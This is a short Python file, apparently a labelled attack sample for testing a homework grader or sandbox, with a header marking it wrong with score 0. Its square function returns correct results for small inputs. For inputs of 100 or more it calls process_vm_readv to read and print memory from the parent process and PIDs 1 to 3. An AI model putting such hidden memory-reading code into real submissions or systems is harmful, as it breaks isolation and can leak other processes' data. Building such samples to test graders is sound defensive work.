# attack: reads the parent's memory with the system call process_vm_readv
# assignment: hw
# exercise: square
# status: wrong
# score: 0
import ctypes
import os


def square(x):
    if x < 100:
        return x * x
    libc = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(4096)

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    mine, theirs = Piece(ctypes.addressof(buffer), 4096), Piece(id(x), 4096)
    here, there = ctypes.byref(mine), ctypes.byref(theirs)
    for pid in (os.getppid(), 1, 2, 3):
        if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
            print("read", pid, buffer.raw[:64])
    return 0
